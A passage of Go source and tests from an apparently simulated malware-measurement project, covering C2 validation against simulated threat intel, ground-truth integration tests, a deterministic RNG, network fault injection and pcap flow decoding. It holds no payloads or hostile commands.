				FirstSeen: now,
			}
			st.C2s[cand.Address] = r
			// Two-query TI validation (§2.3a): once now, once on
			// May 7. The May-7 verdict is deterministic, so it can
			// be asked for up front.
			host := intelHost(cand)
			day0 := st.W.Intel.QueryAddress(host, now)
			r.Day0Malicious, r.Day0Vendors = day0.Malicious, len(day0.Vendors)
			may7 := st.W.Intel.QueryAddress(host, world.May7)
			r.May7Malicious, r.May7Vendors = may7.Malicious, len(may7.Vendors)
		}
		r.Samples = append(r.Samples, rec.SHA)
		r.LastSeen = now
		if cand.Live {
			r.EverLive = true
		}
		if cand.Signature != "" && r.Signature == "" {
			r.Signature = cand.Signature
		}
	}
}

// markLive upgrades records when a later window sees engagement.
func (st *Study) markLive(cands []C2Candidate) {
	for _, cand := range cands {
		if r := st.C2s[cand.Address]; r != nil && cand.Live {
			r.EverLive = true
		}
	}
}

// intelHost maps a candidate to its reputation key (VT rates hosts,
// not host:port pairs).
func intelHost(cand C2Candidate) string {
	if cand.Kind == intel.KindDNS {
		// Strip the port from "name:port".
		addr := cand.Address
		for i := len(addr) - 1; i >= 0; i-- {
			if addr[i] == ':' {
				return addr[:i]
			}
		}
		return addr
	}
	return cand.IP.String()
}

// finalizeC2Records applies the validation rule: a C2 is verified if
// either VT query flags it or its traffic matched a known protocol
// profile (the stand-in for the paper's manual verification).
func (st *Study) finalizeC2Records() {
	for _, r := range st.C2s {
		r.Verified = r.Day0Malicious || r.May7Malicious || r.Signature != ""
	}
}
