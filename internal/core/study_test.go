package core

import (
	"testing"
	"time"

	"malnet/internal/world"
)

// smallStudySamples is the scaled-down feed size. Short mode (the CI
// race build) subsamples the year further; the statistical assertions
// below stay inside their tolerance bands at both scales.
func smallStudySamples() int {
	if testing.Short() {
		return 250
	}
	return 400
}

// smallStudy runs the full pipeline on a scaled-down world: same
// mechanics, fewer samples and probe rounds, so the integration test
// stays fast.
func smallStudy(t *testing.T) *Study {
	t.Helper()
	wcfg := world.DefaultConfig(7)
	wcfg.TotalSamples = smallStudySamples()
	w := world.Generate(wcfg)
	scfg := DefaultStudyConfig(7)
	scfg.Analysis.ProbeRounds = 12
	return RunStudy(w, scfg)
}

var cachedStudy *Study

func getStudy(t *testing.T) *Study {
	if cachedStudy == nil {
		cachedStudy = smallStudy(t)
	}
	return cachedStudy
}

func TestStudyAcceptsMostSamples(t *testing.T) {
	st := getStudy(t)
	total := smallStudySamples()
	if len(st.Samples)+st.Rejected != total {
		t.Fatalf("samples %d + rejected %d != %d", len(st.Samples), st.Rejected, total)
	}
	if float64(st.Rejected)/float64(total) > 0.10 {
		t.Fatalf("rejected = %d, want < 10%%", st.Rejected)
	}
}

func TestStudyFamilyLabelsResolve(t *testing.T) {
	st := getStudy(t)
	famSet := map[string]bool{}
	for _, s := range st.Samples {
		if s.Family == "" {
			t.Fatalf("sample %s has no family", s.SHA[:12])
		}
		famSet[s.Family] = true
	}
	if len(famSet) < 5 {
		t.Fatalf("families seen = %d, want >= 5", len(famSet))
	}
	// The documented AVClass2 failure: mozi samples labeled mirai
	// by AV, but YARA recovers the true family.
	var moziSeen bool
	for _, s := range st.Samples {
		if s.FamilyYARA == "mozi" {
			moziSeen = true
			if s.FamilyAVClass != "mirai" {
				t.Fatalf("mozi sample AVClass label = %q, want mirai", s.FamilyAVClass)
			}
			if !s.P2P {
				t.Fatal("mozi sample not marked P2P")
			}
		}
	}
	if !moziSeen {
		t.Skip("no mozi sample in the scaled feed")
	}
}

func TestStudyC2DatasetAgainstGroundTruth(t *testing.T) {
	st := getStudy(t)
	if len(st.C2s) == 0 {
		t.Fatal("empty D-C2s")
	}
	// Every detected C2 must exist in the world's ground truth.
	matched := 0
	for addr := range st.C2s {
		if st.W.C2s[addr] != nil {
			matched++
		}
	}
	precision := float64(matched) / float64(len(st.C2s))
	if precision < 0.95 {
		t.Fatalf("C2 detection precision vs ground truth = %.3f", precision)
	}
	// Recall: most ground-truth C2s referenced by accepted samples
	// should be found.
	refd := 0
	for _, cs := range st.W.C2s {
		if len(cs.SampleIdx) > 0 && !cs.Elusive {
			refd++
		}
	}
	recall := float64(matched) / float64(refd)
	if recall < 0.80 {
		t.Fatalf("C2 recall = %.3f (found %d of %d)", recall, matched, refd)
	}
}

func TestStudyDayZeroLiveRateShape(t *testing.T) {
	st := getStudy(t)
	var live, total int
	for _, s := range st.Samples {
		if s.P2P || len(s.C2s) == 0 {
			continue
		}
		total++
		if s.LiveDay0 {
			live++
		}
	}
	if total == 0 {
		t.Fatal("no C2 samples")
	}
	rate := float64(live) / float64(total)
	// Paper: 60% dead on day 0 => ~40% live; allow slack at this
	// scale.
	if rate < 0.20 || rate > 0.60 {
		t.Fatalf("day-0 live rate = %.3f over %d samples, want ~0.40", rate, total)
	}
}

func TestStudyExploitsClassified(t *testing.T) {
	st := getStudy(t)
	if len(st.Exploits) == 0 {
		t.Fatal("no exploits captured")
	}
	vulnsSeen := map[string]bool{}
	for _, f := range st.Exploits {
		for _, v := range f.Vulns {
			vulnsSeen[v.Key] = true
		}
		if f.Loader == "" || f.Downloader == "" {
			t.Fatalf("finding missing loader/downloader: %+v", f)
		}
	}
	if len(vulnsSeen) < 4 {
		t.Fatalf("distinct vulnerabilities = %d, want several", len(vulnsSeen))
	}
}

func TestStudyObservesDDoSCommands(t *testing.T) {
	st := getStudy(t)
	if len(st.DDoS) == 0 {
		t.Fatal("no DDoS commands observed")
	}
	verified := 0
	for _, o := range st.DDoS {
		if o.Verified {
			verified++
		}
		if o.C2 == "" || !o.Command.Target.IsValid() {
			t.Fatalf("malformed observation: %+v", o)
		}
		// Every observed command must match a ground-truth plan's
		// target.
		found := false
		for _, plan := range st.W.Attacks {
			if plan.Command.Target == o.Command.Target {
				found = true
			}
		}
		if !found {
			t.Fatalf("observed attack on %v matches no ground-truth plan", o.Command.Target)
		}
	}
	if verified == 0 {
		t.Fatal("no observation verified")
	}
}

func TestStudyProbingFindsPlantedC2s(t *testing.T) {
	st := getStudy(t)
	if st.Probe == nil || !st.Probe.Done {
		t.Fatal("probe study missing or unfinished")
	}
	merged := st.MergedLiveC2s()
	if len(merged) == 0 {
		t.Fatal("probing found no live C2s")
	}
	// All found C2s must be the planted elusive population.
	for _, tgt := range merged {
		cs := st.W.C2s[tgt.Addr.String()]
		if cs == nil || !cs.Elusive {
			t.Fatalf("probe hit %v which is not a planted elusive C2", tgt.Addr)
		}
	}
	if len(merged) > st.W.PlantedElusive {
		t.Fatalf("found %d live C2s, only %d planted", len(merged), st.W.PlantedElusive)
	}
}

func TestStudyTIValidationFields(t *testing.T) {
	st := getStudy(t)
	var day0Miss, verified, total int
	for _, r := range st.C2s {
		total++
		if !r.Day0Malicious {
			day0Miss++
		}
		if r.Verified {
			verified++
		}
		if r.FirstSeen.After(r.LastSeen) {
			t.Fatalf("record %s has FirstSeen after LastSeen", r.Address)
		}
	}
	missRate := float64(day0Miss) / float64(total)
	if missRate < 0.05 || missRate > 0.40 {
		t.Fatalf("day-0 miss rate = %.3f, want ~0.15", missRate)
	}
	if float64(verified)/float64(total) < 0.90 {
		t.Fatalf("verified share = %.3f", float64(verified)/float64(total))
	}
}

func TestStudyLifespanFloorsAtOneDay(t *testing.T) {
	st := getStudy(t)
	for _, r := range st.C2s {
		if r.LifespanDays() < 1 {
			t.Fatalf("lifespan %v < 1 day", r.LifespanDays())
		}
	}
}

func TestStudyAttackC2LongerLifespan(t *testing.T) {
	st := getStudy(t)
	attackC2 := map[string]bool{}
	for _, o := range st.DDoS {
		attackC2[o.C2] = true
	}
	if len(attackC2) == 0 {
		t.Skip("no attack C2 observed at this scale")
	}
	var atkSum, atkN, allSum, allN float64
	for addr, r := range st.C2s {
		d := r.LifespanDays()
		allSum += d
		allN++
		if attackC2[addr] {
			atkSum += d
			atkN++
		}
	}
	if atkN == 0 {
		t.Skip("attack C2s not in D-C2s at this scale")
	}
	if atkSum/atkN <= allSum/allN {
		t.Fatalf("attack C2 mean lifespan %.1f <= overall %.1f; paper finds ~10 vs ~4 days",
			atkSum/atkN, allSum/allN)
	}
}

func TestStudyDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	a := smallStudy(t)
	b := smallStudy(t)
	if len(a.Samples) != len(b.Samples) || len(a.C2s) != len(b.C2s) ||
		len(a.DDoS) != len(b.DDoS) || len(a.Exploits) != len(b.Exploits) {
		t.Fatalf("studies differ: samples %d/%d c2s %d/%d ddos %d/%d exploits %d/%d",
			len(a.Samples), len(b.Samples), len(a.C2s), len(b.C2s),
			len(a.DDoS), len(b.DDoS), len(a.Exploits), len(b.Exploits))
	}
}

func TestStudyWindowsAdvanceClock(t *testing.T) {
	st := getStudy(t)
	if st.W.Clock.Now().Before(world.StudyEnd()) {
		t.Fatalf("clock at %v, want past study end", st.W.Clock.Now())
	}
	_ = time.Now // keep time import if asserts change
}

func TestStudyDatasetCoherence(t *testing.T) {
	// Cross-dataset referential integrity: every row in the derived
	// datasets points back at an accepted sample.
	st := getStudy(t)
	known := map[string]bool{}
	for _, s := range st.Samples {
		known[s.SHA] = true
	}
	for _, o := range st.DDoS {
		if !known[o.SHA256] {
			t.Fatalf("D-DDOS row references unknown sample %s", o.SHA256[:12])
		}
	}
	for _, f := range st.Exploits {
		if !known[f.SHA256] {
			t.Fatalf("D-Exploits row references unknown sample %s", f.SHA256[:12])
		}
		if len(f.Vulns) == 0 {
			t.Fatal("finding without vulnerabilities")
		}
	}
	for addr, r := range st.C2s {
		if len(r.Samples) == 0 {
			t.Fatalf("C2 record %s has no samples", addr)
		}
		for _, sha := range r.Samples {
			if !known[sha] {
				t.Fatalf("C2 record %s references unknown sample", addr)
			}
		}
		if r.Address != addr {
			t.Fatalf("record key %s != address %s", addr, r.Address)
		}
	}
	// Per-sample DDoS lists must re-aggregate to the global one.
	total := 0
	for _, s := range st.Samples {
		total += len(s.DDoS)
	}
	if total != len(st.DDoS) {
		t.Fatalf("per-sample DDoS sum %d != global %d", total, len(st.DDoS))
	}
}

func TestStudyActivationRateShape(t *testing.T) {
	st := getStudy(t)
	activated := 0
	for _, s := range st.Samples {
		if s.Activated {
			activated++
		}
	}
	rate := float64(activated) / float64(len(st.Samples))
	if rate < 0.84 || rate > 0.98 {
		t.Fatalf("activation rate = %.3f, want ~0.90-0.93", rate)
	}
}

func TestStudyFiltersForeignArchitectures(t *testing.T) {
	// §2.2: the collection keeps only MIPS 32B binaries; the feed's
	// ARM/x86 decoys must be skipped before analysis.
	st := getStudy(t)
	if st.FilteredArch == 0 {
		t.Fatal("no foreign-arch downloads filtered")
	}
	want := smallStudySamples() * 8 / 100
	if st.FilteredArch != want {
		t.Fatalf("filtered = %d, want %d", st.FilteredArch, want)
	}
}
