// Package detrand derives deterministic pseudo-random values from
// string keys. It exists because raw FNV output has weak high-bit
// avalanche for inputs differing only in their final bytes (e.g.
// "seed/11" vs "seed/12"), which silently destroys the independence
// that the simulation's generative models assume; Mix64 applies a
// murmur3-style finalizer to fix that.
package detrand

import (
	"fmt"
	"hash/fnv"
)

// Mix64 is the murmur3/splitmix finalizer: a bijective scrambler
// with full avalanche.
func Mix64(x uint64) uint64 {
	x ^= x >> 33
	x *= 0xff51afd7ed558ccd
	x ^= x >> 33
	x *= 0xc4ceb9fe1a85ec53
	x ^= x >> 33
	return x
}

// Hash64 hashes the seed and key parts to a well-mixed 64-bit value.
func Hash64(seed int64, parts ...string) uint64 {
	h := fnv.New64a()
	fmt.Fprintf(h, "%d", seed)
	for _, p := range parts {
		h.Write([]byte{0})
		h.Write([]byte(p))
	}
	return Mix64(h.Sum64())
}

// Float01 returns a uniform float64 in [0,1) derived from the seed
// and key parts.
func Float01(seed int64, parts ...string) float64 {
	return float64(Hash64(seed, parts...)>>11) / float64(1<<53)
}

// Intn returns a uniform int in [0,n) derived from the seed and key
// parts. It panics when n <= 0.
func Intn(seed int64, n int, parts ...string) int {
	if n <= 0 {
		panic("detrand: Intn with non-positive n")
	}
	return int(Hash64(seed, parts...) % uint64(n))
}

// Seed derives a child RNG seed from a parent seed and key parts.
// Unlike linear schemes (parent*K + index), nearby keys yield
// unrelated child streams, so feed order or population size cannot
// correlate per-sample randomness — the property the parallel
// executor depends on.
func Seed(seed int64, parts ...string) int64 {
	return int64(Hash64(seed, parts...))
}
