package detrand

import (
	"fmt"
	"math"
	"testing"
	"testing/quick"
)

func TestFloat01Range(t *testing.T) {
	f := func(seed int64, key string) bool {
		v := Float01(seed, key)
		return v >= 0 && v < 1
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestFloat01Deterministic(t *testing.T) {
	if Float01(7, "a", "b") != Float01(7, "a", "b") {
		t.Fatal("same inputs gave different values")
	}
}

func TestPartsAreDelimited(t *testing.T) {
	// ("ab","c") and ("a","bc") must hash differently.
	if Hash64(1, "ab", "c") == Hash64(1, "a", "bc") {
		t.Fatal("part boundaries not delimited")
	}
}

func TestAdjacentKeysUncorrelated(t *testing.T) {
	// The regression this package exists for: keys differing only
	// in a trailing digit must produce near-uniform small-threshold
	// hit rates.
	hits := 0
	const n = 20000
	for i := 0; i < n; i++ {
		if Float01(4, fmt.Sprintf("slot/%d", i)) < 0.09 {
			hits++
		}
	}
	rate := float64(hits) / n
	if math.Abs(rate-0.09) > 0.01 {
		t.Fatalf("hit rate = %.4f, want ~0.09", rate)
	}
}

func TestUniformityBuckets(t *testing.T) {
	const n, buckets = 50000, 10
	var counts [buckets]int
	for i := 0; i < n; i++ {
		counts[int(Float01(9, fmt.Sprintf("k%d", i))*buckets)]++
	}
	for b, c := range counts {
		if math.Abs(float64(c)-n/buckets) > 0.05*n/buckets {
			t.Fatalf("bucket %d count %d deviates from %d", b, c, n/buckets)
		}
	}
}

func TestIntnBoundsAndPanic(t *testing.T) {
	for i := 0; i < 1000; i++ {
		v := Intn(3, 7, fmt.Sprintf("x%d", i))
		if v < 0 || v >= 7 {
			t.Fatalf("Intn out of range: %d", v)
		}
	}
	defer func() {
		if recover() == nil {
			t.Fatal("Intn(0) did not panic")
		}
	}()
	Intn(1, 0)
}

func TestMix64Bijective(t *testing.T) {
	seen := map[uint64]bool{}
	for i := uint64(0); i < 1000; i++ {
		v := Mix64(i)
		if seen[v] {
			t.Fatalf("collision at %d", i)
		}
		seen[v] = true
	}
}
