// Package faultinject is a seed-deterministic fault plan for the
// virtual network: packet loss, mid-stream resets, latency spikes,
// temporary host blackouts, and slow-drip (chunked-delivery)
// connections, each decided as a pure function of
// (seed, address pair, connection sequence).
//
// Purity is the whole point. The study executor gives every sandbox
// shard a private simnet.Network rebuilt per sample; because a fault
// decision depends only on the plan seed and on identifiers that are
// themselves deterministic per sample (addresses, the per-pair
// connection sequence, segment indices), a given seed reproduces the
// same fault schedule at any worker count. There is no mutable state
// in a Plan — two Plans built from the same Config agree on every
// decision, in any order of consultation, from any goroutine.
//
// The rates model the degraded-world conditions the MalNet pipeline
// had to survive: C2 servers going dark mid-handshake, probes timing
// out, half-dead servers that accept and then stall or reset. The
// chaos test suite runs the whole study under a Plan and demands the
// same byte-identical datasets the clean equivalence suite does.
package faultinject

import (
	"time"

	"malnet/internal/detrand"
)

// Config parameterizes a fault plan. All rates are probabilities in
// [0, 1]; zero disables that fault class.
type Config struct {
	// Seed drives every decision. Two plans with equal configs make
	// identical decisions.
	Seed int64

	// SYNLossRate is the probability a connection's handshake is
	// swallowed entirely: the dialer sees a plain SYN timeout even
	// though the destination is up.
	SYNLossRate float64

	// SegmentLossRate is the per-segment probability a data write is
	// lost in flight: the sender's tap records it, the receiver
	// never sees it.
	SegmentLossRate float64

	// ResetRate is the probability a connection is torn down with
	// RST mid-stream. The reset replaces the Nth data segment, with
	// N drawn uniformly from [0, ResetMaxSegment].
	ResetRate float64
	// ResetMaxSegment bounds how deep into a connection an injected
	// reset can land. Defaults to 4 (resets land early, where they
	// hurt handshakes and banner reads).
	ResetMaxSegment int

	// SpikeRate is the probability a connection suffers a latency
	// spike: every packet of that connection carries extra one-way
	// delay drawn uniformly from (0, SpikeMax].
	SpikeRate float64
	// SpikeMax bounds the extra one-way delay of a spiked
	// connection.
	SpikeMax time.Duration

	// BlackoutRate is the per-window probability a host goes dark:
	// for BlackoutDuration from the start of an affected window,
	// dials to it time out and datagrams to it vanish.
	BlackoutRate float64
	// BlackoutWindow quantizes time for blackout decisions; each
	// (host, window index) pair is an independent draw.
	BlackoutWindow time.Duration
	// BlackoutDuration is how long an affected host stays dark from
	// the start of its window. Clamped to BlackoutWindow.
	BlackoutDuration time.Duration

	// DripRate is the probability a connection is slow-drip: each
	// write is delivered to the peer in DripChunk-byte pieces spaced
	// DripDelay apart, breaking message-boundary assumptions exactly
	// the way a congested real-world path does.
	DripRate float64
	// DripChunk is the delivery chunk size for slow-drip
	// connections; defaults to 5 bytes.
	DripChunk int
	// DripDelay is the inter-chunk delivery spacing; defaults to
	// 200 ms.
	DripDelay time.Duration
}

// DefaultConfig returns a degraded-but-survivable Internet: a few
// percent of handshakes and segments lost, early resets on ~8 % of
// connections, occasional multi-second latency spikes, rare ten-minute
// host blackouts, and a sprinkle of slow-drip connections.
func DefaultConfig(seed int64) Config {
	return Config{
		Seed:             seed,
		SYNLossRate:      0.04,
		SegmentLossRate:  0.02,
		ResetRate:        0.08,
		ResetMaxSegment:  4,
		SpikeRate:        0.10,
		SpikeMax:         3 * time.Second,
		BlackoutRate:     0.03,
		BlackoutWindow:   time.Hour,
		BlackoutDuration: 10 * time.Minute,
		DripRate:         0.05,
		DripChunk:        5,
		DripDelay:        200 * time.Millisecond,
	}
}

// ConnFaults is the fault schedule of one connection, fully decided
// at dial time. The zero value means "no faults".
type ConnFaults struct {
	// DropSYN: the handshake never completes; the dialer times out.
	DropSYN bool
	// ResetAfterSegment, when >= 0, injects an RST in place of the
	// Nth data segment either side attempts to send.
	ResetAfterSegment int
	// ExtraLatency is added to every one-way delay of the
	// connection (both directions).
	ExtraLatency time.Duration
	// DripChunk/DripDelay, when DripChunk > 0, chunk every delivery.
	DripChunk int
	DripDelay time.Duration
}

// None reports whether the connection carries no faults at all.
func (cf ConnFaults) None() bool {
	return !cf.DropSYN && cf.ResetAfterSegment < 0 && cf.ExtraLatency == 0 && cf.DripChunk == 0
}

// Plan answers fault queries for one configured seed. The zero-value
// and nil Plans inject nothing, so call sites need no guards.
type Plan struct {
	cfg Config
}

// New builds a plan, applying Config defaults for zero fields whose
// zero value would be degenerate.
func New(cfg Config) *Plan {
	if cfg.ResetMaxSegment <= 0 {
		cfg.ResetMaxSegment = 4
	}
	if cfg.DripChunk <= 0 {
		cfg.DripChunk = 5
	}
	if cfg.DripDelay <= 0 {
		cfg.DripDelay = 200 * time.Millisecond
	}
	if cfg.BlackoutWindow <= 0 {
		cfg.BlackoutWindow = time.Hour
	}
	if cfg.BlackoutDuration <= 0 || cfg.BlackoutDuration > cfg.BlackoutWindow {
		cfg.BlackoutDuration = cfg.BlackoutWindow / 6
	}
	return &Plan{cfg: cfg}
}

// Config returns the plan's (defaulted) configuration.
func (p *Plan) Config() Config { return p.cfg }

// seqKey renders the connection sequence number for hashing.
func seqKey(seq uint64) string {
	// Fixed-width so nearby sequences differ in every digit position
	// detrand sees; Mix64 would cope anyway, but cheap insurance.
	const digits = "0123456789abcdef"
	var b [16]byte
	for i := 15; i >= 0; i-- {
		b[i] = digits[seq&0xf]
		seq >>= 4
	}
	return string(b[:])
}

// ConnPlan decides every per-connection fault for the seq-th
// connection from src to dst. src and dst are the stable endpoint
// identities (the dialing host's IP and the dialed ip:port — not the
// ephemeral port, which is incidental state).
func (p *Plan) ConnPlan(src, dst string, seq uint64) ConnFaults {
	cf := ConnFaults{ResetAfterSegment: -1}
	if p == nil {
		return cf
	}
	key := seqKey(seq)
	if p.cfg.SYNLossRate > 0 && detrand.Float01(p.cfg.Seed, "syn", src, dst, key) < p.cfg.SYNLossRate {
		cf.DropSYN = true
		return cf // the connection never forms; nothing else matters
	}
	if p.cfg.ResetRate > 0 && detrand.Float01(p.cfg.Seed, "reset", src, dst, key) < p.cfg.ResetRate {
		cf.ResetAfterSegment = detrand.Intn(p.cfg.Seed, p.cfg.ResetMaxSegment+1, "resetseg", src, dst, key)
	}
	if p.cfg.SpikeRate > 0 && p.cfg.SpikeMax > 0 &&
		detrand.Float01(p.cfg.Seed, "spike", src, dst, key) < p.cfg.SpikeRate {
		frac := detrand.Float01(p.cfg.Seed, "spikeamt", src, dst, key)
		cf.ExtraLatency = time.Duration(1 + frac*float64(p.cfg.SpikeMax-1))
	}
	if p.cfg.DripRate > 0 && detrand.Float01(p.cfg.Seed, "drip", src, dst, key) < p.cfg.DripRate {
		cf.DripChunk = p.cfg.DripChunk
		cf.DripDelay = p.cfg.DripDelay
	}
	return cf
}

// DropSegment decides whether the seg-th data segment sent in
// direction dir ("out" for the dialer side, "in" for the accepting
// side) of the identified connection is lost in flight.
func (p *Plan) DropSegment(src, dst string, seq uint64, dir string, seg int) bool {
	if p == nil || p.cfg.SegmentLossRate <= 0 {
		return false
	}
	return detrand.Float01(p.cfg.Seed, "seg", src, dst, seqKey(seq), dir, seqKey(uint64(seg))) < p.cfg.SegmentLossRate
}

// Blackout reports whether host ip is dark at virtual time at. The
// decision quantizes time into BlackoutWindow slots counted from the
// Unix epoch, so it depends only on (seed, ip, slot) — never on who
// asks or in which order.
func (p *Plan) Blackout(ip string, at time.Time) bool {
	if p == nil || p.cfg.BlackoutRate <= 0 {
		return false
	}
	since := at.Sub(time.Unix(0, 0))
	if since < 0 {
		return false
	}
	slot := uint64(since / p.cfg.BlackoutWindow)
	if detrand.Float01(p.cfg.Seed, "blackout", ip, seqKey(slot)) >= p.cfg.BlackoutRate {
		return false
	}
	// The affected host is dark for BlackoutDuration from the start
	// of the slot.
	into := since % p.cfg.BlackoutWindow
	return into < p.cfg.BlackoutDuration
}
