package faultinject

import (
	"fmt"
	"testing"
	"time"
)

// TestNilAndZeroPlansInjectNothing: call sites never guard, so the
// nil plan and the zero-rate plan must both be inert.
func TestNilAndZeroPlansInjectNothing(t *testing.T) {
	var nilPlan *Plan
	zero := New(Config{Seed: 1})
	at := time.Date(2021, 6, 1, 12, 0, 0, 0, time.UTC)
	for name, p := range map[string]*Plan{"nil": nilPlan, "zero-rates": zero} {
		for seq := uint64(0); seq < 50; seq++ {
			if cf := p.ConnPlan("10.0.0.1", "60.0.0.9:23", seq); !cf.None() {
				t.Fatalf("%s plan injected conn faults: %+v", name, cf)
			}
			if p.DropSegment("10.0.0.1", "60.0.0.9:23", seq, "out", 0) {
				t.Fatalf("%s plan dropped a segment", name)
			}
		}
		if p.Blackout("60.0.0.9", at) {
			t.Fatalf("%s plan blacked out a host", name)
		}
	}
}

// TestPlanIsPureFunction: two independently built plans with the same
// seed agree on every decision; a different seed disagrees somewhere.
func TestPlanIsPureFunction(t *testing.T) {
	a := New(DefaultConfig(7))
	b := New(DefaultConfig(7))
	c := New(DefaultConfig(8))
	at := time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)

	sameSeedAgree := true
	diffSeedAgree := true
	for i := 0; i < 400; i++ {
		src := fmt.Sprintf("10.0.0.%d", i%9)
		dst := fmt.Sprintf("60.0.%d.9:23", i%13)
		seq := uint64(i)
		if a.ConnPlan(src, dst, seq) != b.ConnPlan(src, dst, seq) {
			sameSeedAgree = false
		}
		if a.ConnPlan(src, dst, seq) != c.ConnPlan(src, dst, seq) {
			diffSeedAgree = false
		}
		if a.DropSegment(src, dst, seq, "out", i%5) != b.DropSegment(src, dst, seq, "out", i%5) {
			sameSeedAgree = false
		}
		when := at.Add(time.Duration(i) * 17 * time.Minute)
		if a.Blackout(dst, when) != b.Blackout(dst, when) {
			sameSeedAgree = false
		}
	}
	if !sameSeedAgree {
		t.Fatal("same-seed plans disagreed on at least one decision")
	}
	if diffSeedAgree {
		t.Fatal("seed 7 and seed 8 agreed on every decision; seed is not feeding the hash")
	}
}

// TestConsultationOrderIrrelevant: a decision must not depend on what
// was asked before it — the property that lets shard networks at any
// worker count see the same schedule.
func TestConsultationOrderIrrelevant(t *testing.T) {
	p := New(DefaultConfig(42))
	// Ask in one order...
	first := p.ConnPlan("10.0.0.1", "60.0.0.9:23", 3)
	// ...then flood the plan with unrelated queries...
	for i := 0; i < 1000; i++ {
		p.ConnPlan(fmt.Sprintf("10.9.9.%d", i%250), "1.2.3.4:80", uint64(i))
		p.DropSegment("8.8.8.8", "9.9.9.9:443", uint64(i), "in", i)
	}
	// ...and ask again.
	if again := p.ConnPlan("10.0.0.1", "60.0.0.9:23", 3); again != first {
		t.Fatalf("decision changed after unrelated queries: %+v vs %+v", first, again)
	}
}

// TestRatesRoughlyHold: with 30% rates over many draws the observed
// frequency should be in a wide-but-informative band; this catches
// inverted comparisons and dead hash inputs, not distribution quality.
func TestRatesRoughlyHold(t *testing.T) {
	cfg := Config{Seed: 3, SYNLossRate: 0.3, ResetRate: 0.3, SpikeRate: 0.3, SpikeMax: time.Second, DripRate: 0.3}
	p := New(cfg)
	const n = 4000
	var syn, reset, spike, drip int
	for i := 0; i < n; i++ {
		cf := p.ConnPlan("10.0.0.1", fmt.Sprintf("60.0.%d.%d:23", i/250, i%250), uint64(i))
		if cf.DropSYN {
			syn++
			continue // SYN loss short-circuits the other draws
		}
		if cf.ResetAfterSegment >= 0 {
			reset++
		}
		if cf.ExtraLatency > 0 {
			spike++
		}
		if cf.DripChunk > 0 {
			drip++
		}
	}
	check := func(name string, got int, rate float64) {
		t.Helper()
		f := float64(got) / n
		if f < rate*0.6 || f > rate*1.4 {
			t.Fatalf("%s frequency %.3f far from configured %.2f", name, f, rate)
		}
	}
	check("syn-loss", syn, 0.3)
	// The remaining draws only happen on the ~70% of conns that kept
	// their SYN.
	check("reset", reset, 0.3*0.7)
	check("spike", spike, 0.3*0.7)
	check("drip", drip, 0.3*0.7)
}

// TestBlackoutWindows: a blacked-out host is dark only for the
// configured duration from the window start, and clears afterwards.
func TestBlackoutWindows(t *testing.T) {
	p := New(Config{Seed: 5, BlackoutRate: 1, BlackoutWindow: time.Hour, BlackoutDuration: 10 * time.Minute})
	base := time.Date(2021, 6, 1, 9, 0, 0, 0, time.UTC) // window-aligned (epoch multiple of 1h)
	if !p.Blackout("60.0.0.9", base.Add(5*time.Minute)) {
		t.Fatal("rate=1 host not dark inside the blackout span")
	}
	if p.Blackout("60.0.0.9", base.Add(30*time.Minute)) {
		t.Fatal("host still dark after BlackoutDuration elapsed")
	}
}

// TestConnFaultsSpikeBounds: spike latency is positive and bounded by
// SpikeMax.
func TestConnFaultsSpikeBounds(t *testing.T) {
	p := New(Config{Seed: 9, SpikeRate: 1, SpikeMax: 2 * time.Second})
	for i := 0; i < 500; i++ {
		cf := p.ConnPlan("10.0.0.1", fmt.Sprintf("60.0.0.%d:23", i%250), uint64(i))
		if cf.ExtraLatency <= 0 || cf.ExtraLatency > 2*time.Second {
			t.Fatalf("spike %v out of (0, 2s]", cf.ExtraLatency)
		}
	}
}
