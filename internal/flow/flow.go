// Package flow turns captures back into analyzable traffic: it
// decodes LINKTYPE_RAW pcap frames into packet records, and
// reassembles records into bidirectional sessions keyed by their
// canonical 4-tuple — the offline counterpart of the sandbox's live
// taps, so the pipeline's classifiers can run over stored captures.
package flow

import (
	"fmt"
	"io"
	"sort"
	"time"

	"malnet/internal/packet"
	"malnet/internal/pcap"
	"malnet/internal/simnet"
)

// RecordFromFrame decodes one raw-IPv4 frame into a packet record —
// the inverse of pcap.FrameFromRecord. Burst compression cannot be
// recovered from a capture, so Count is always 1.
func RecordFromFrame(ts time.Time, frame []byte) (simnet.PacketRecord, error) {
	p, err := packet.Decode(frame)
	if err != nil {
		return simnet.PacketRecord{}, err
	}
	rec := simnet.PacketRecord{
		Time:  ts,
		Src:   simnet.Addr{IP: p.IP.SrcIP},
		Dst:   simnet.Addr{IP: p.IP.DstIP},
		Size:  len(frame),
		Count: 1,
	}
	switch {
	case p.TCP != nil:
		rec.Proto = simnet.ProtoTCP
		rec.Src.Port, rec.Dst.Port = p.TCP.SrcPort, p.TCP.DstPort
		if p.TCP.SYN {
			rec.Flags |= simnet.FlagSYN
		}
		if p.TCP.ACK {
			rec.Flags |= simnet.FlagACK
		}
		if p.TCP.FIN {
			rec.Flags |= simnet.FlagFIN
		}
		if p.TCP.RST {
			rec.Flags |= simnet.FlagRST
		}
		if p.TCP.PSH {
			rec.Flags |= simnet.FlagPSH
		}
		rec.Payload = p.Payload
	case p.UDP != nil:
		rec.Proto = simnet.ProtoUDP
		rec.Src.Port, rec.Dst.Port = p.UDP.SrcPort, p.UDP.DstPort
		rec.Payload = p.Payload
	case p.ICMP != nil:
		rec.Proto = simnet.ProtoICMP
		rec.ICMPTyp, rec.ICMPCod = p.ICMP.Type, p.ICMP.Code
		rec.Payload = p.Payload
	default:
		return rec, fmt.Errorf("flow: unsupported IP protocol %d", p.IP.Protocol)
	}
	if len(rec.Payload) == 0 {
		rec.Payload = nil
	}
	return rec, nil
}

// ReadRecords decodes an entire LINKTYPE_RAW capture.
func ReadRecords(r io.Reader) ([]simnet.PacketRecord, error) {
	pr, err := pcap.NewReader(r)
	if err != nil {
		return nil, err
	}
	if pr.Link != pcap.LinkTypeRaw {
		return nil, fmt.Errorf("flow: unsupported link type %d", pr.Link)
	}
	var out []simnet.PacketRecord
	for {
		frame, err := pr.Next()
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		rec, err := RecordFromFrame(frame.Time, frame.Data)
		if err != nil {
			continue // skip undecodable frames, as analyzers do
		}
		out = append(out, rec)
	}
}

// Session is one bidirectional conversation.
type Session struct {
	// Flow is the canonical (order-independent) key; Initiator is
	// the side that sent first.
	Flow      packet.Flow
	Initiator simnet.Addr
	Responder simnet.Addr
